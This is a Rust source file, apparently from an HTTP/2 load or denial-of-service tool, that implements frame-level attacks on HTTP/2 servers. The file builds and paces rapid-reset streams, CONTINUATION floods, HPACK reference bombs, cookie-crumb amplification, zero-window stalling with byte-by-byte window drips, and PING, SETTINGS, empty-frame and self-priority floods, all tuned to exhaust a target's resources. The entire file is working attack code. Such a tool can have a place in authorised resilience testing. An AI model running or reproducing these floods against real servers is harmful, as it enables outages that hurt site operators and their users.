//! The attacks on HTTP/2, frame by frame.
//!
//! Owns what is sent, and when. Never reads an answer.

use super::kind::Kind;
use super::raw::{Raw, Seen};
use crate::h2::frame::{self, code, flag, kind, setting};
use crate::h2::hpack;
use crate::target::Target;
use std::time::Duration;

/// Bytes that wait to be sent before more are made.
const OUT_BYTES: usize = 64 * 1024;
/// Units of an attack made at once.
const BATCH: usize = 50;
/// References in a block; with the fields before them they fill a frame.
const REFERENCES: usize = 15_000;
/// How long requests may get on their way to the backend before they are made to end.
const HEAD_START: Duration = Duration::from_millis(2);
/// Streams without a window at once.
const STALLED_STREAMS: u64 = 100;
/// How often each of their windows grows by a byte.
const DRIP_EVERY: Duration = Duration::from_millis(20);
/// The last stream of a connection.
const STREAM_MAX: u32 = 1 << 30;

/// One attack on one connection.
pub struct Flood {
    kind: Kind,
    /// The connection.
    pub raw: Raw,
    next_stream: u32,
    /// Requests that are made to end in the next step; every second batch of them is made to at once instead.
    on_their_way: Vec<u32>,
    at_once: bool,
    /// A request whose answer takes its time at the origin.
    slow: Vec<u8>,
    /// A request with a large answer.
    large: Vec<u8>,
    /// Requests, floods of one frame, fields: whatever the attack is made of.
    pub units: u64,
}

impl Flood {
    /// Begins on a fresh connection.
    pub fn new(kind: Kind, raw: Raw, target: &Target) -> Flood {
        let slow = target.path.clone().unwrap_or_else(|| "/100?delay=1s".to_owned());
        let (slow, large) = (block(target, "GET", &slow), block(target, "GET", "/1000000"));
        let mut flood =
            Flood { kind, raw, next_stream: 1, on_their_way: Vec::new(), at_once: false, slow, large, units: 0 };
        flood.begin(target);
        flood
    }

    fn begin(&mut self, target: &Target) {
        let out = &mut self.raw.out;
        match self.kind {
            Kind::ZeroWindow => frame::put_settings(out, &[(setting::INITIAL_WINDOW_SIZE, 0)]),
            Kind::Continuation => {
                let request = self.slow.clone();
                self.headers(flag::END_STREAM, &request);
            }
            Kind::EmptyData => {
                let request = block(target, "POST", "/100");
                self.headers(flag::END_HEADERS, &request);
            }
            Kind::HpackBomb => self.keep("x-bomb", &"b".repeat(4000)),
            Kind::CookieCrumbs => self.keep("cookie", "a=b"),
            _ => {}
        }
    }

    /// What came back so far.
    pub fn seen(&self) -> Seen {
        self.raw.seen
    }

    /// Whether nothing can be asked on this connection any more.
    pub fn is_spent(&self) -> bool {
        self.next_stream > STREAM_MAX
    }

    /// Makes more of it ready, and tells how long to rest then.
    pub fn step(&mut self) -> Duration {
        if let Kind::ZeroWindow = self.kind {
            self.drip();
            return DRIP_EVERY;
        }
        if !self.on_their_way.is_empty() {
            for stream in std::mem::take(&mut self.on_their_way) {
                self.end(stream);
            }
            self.at_once = true;
            return Duration::ZERO;
        }
        for _ in 0..BATCH {
            if self.raw.out.len() >= OUT_BYTES {
                return Duration::from_millis(5);
            }
            self.unit();
            self.units += 1;
        }
        self.at_once = false;
        if self.on_their_way.is_empty() { Duration::ZERO } else { HEAD_START }
    }

    /// Makes a request end without an answer: resets it, or has the server do it.
    fn end(&mut self, stream: u32) {
        let out = &mut self.raw.out;
        match self.kind {
            Kind::RapidReset => frame::put_reset(out, stream, code::CANCEL),
            Kind::WindowOverflow => frame::put_window(out, stream, frame::WINDOW_BYTES_MAX as u32),
            Kind::DataAfterEnd => frame::put(out, kind::DATA, 0, stream, b"late"),
            Kind::SelfPriority => {
                let mut payload = stream.to_be_bytes().to_vec();
                payload.push(16);
                frame::put(out, kind::PRIORITY, 0, stream, &payload);
            }
            _ => {}
        }
    }

    fn unit(&mut self) {
        match self.kind {
            Kind::RapidReset | Kind::WindowOverflow | Kind::DataAfterEnd | Kind::SelfPriority => {
                let request = std::mem::take(&mut self.slow);
                let stream = self.headers(flag::END_STREAM | flag::END_HEADERS, &request);
                self.slow = request;
                if self.at_once { self.end(stream) } else { self.on_their_way.push(stream) }
            }
            Kind::Continuation => {
                let mut fields = Vec::new();
                for i in 0..40 {
                    hpack::put_field(&mut fields, &format!("x-{}-{i}", self.units), &"v".repeat(80));
                }
                frame::put(&mut self.raw.out, kind::CONTINUATION, 0, 1, &fields);
            }
            Kind::HpackBomb | Kind::CookieCrumbs => {
                // The newest field of the table, again and again.
                let mut bomb = self.slow.clone();
                bomb.resize(bomb.len() + REFERENCES, 0xbe);
                self.headers(flag::END_STREAM | flag::END_HEADERS, &bomb);
            }
            Kind::Ping => frame::put(&mut self.raw.out, kind::PING, 0, 0, &self.units.to_be_bytes()),
            Kind::Settings => frame::put_settings(&mut self.raw.out, &[]),
            Kind::EmptyData => frame::put(&mut self.raw.out, kind::DATA, 0, 1, b""),
            Kind::EmptyHeaders => {
                self.headers(flag::END_STREAM | flag::END_HEADERS, b"");
            }
            Kind::WindowUpdate => frame::put_window(&mut self.raw.out, 0, 1),
            // Not of HTTP/2, or paced.
            Kind::ZeroWindow | Kind::SlowHandshake | Kind::HandshakeFlood => {}
        }
    }

    /// Keeps so many streams waiting for a window, and gives each a byte.
    fn drip(&mut self) {
        let opened = u64::from(self.next_stream / 2);
        let gone = self.raw.seen.resets + self.raw.seen.answers;
        for _ in opened..gone + STALLED_STREAMS {
            let request = self.large.clone();
            self.headers(flag::END_STREAM | flag::END_HEADERS, &request);
            self.units += 1;
        }
        let newest = self.next_stream;
        let oldest = newest.saturating_sub(2 * STALLED_STREAMS as u32).max(1);
        for stream in (oldest..newest).step_by(2) {
            frame::put_window(&mut self.raw.out, stream, 1);
        }
    }

    /// Has the server keep a field.
    fn keep(&mut self, name: &str, value: &str) {
        let mut request = self.slow.clone();
        hpack::put_kept_field(&mut request, name, value);
        self.headers(flag::END_STREAM | flag::END_HEADERS, &request);
    }

    fn headers(&mut self, flags: u8, block: &[u8]) -> u32 {
        let stream = self.next_stream;
        self.next_stream += 2;
        frame::put(&mut self.raw.out, kind::HEADERS, flags, stream, block);
        stream
    }
}

fn block(target: &Target, method: &str, path: &str) -> Vec<u8> {
    let mut block = Vec::new();
    let fields = [(":method", method), (":scheme", target.scheme()), (":path", path), (":authority", &target.host)];
    fields.iter().for_each(|(name, value)| hpack::put_field(&mut block, name, value));
    block
}
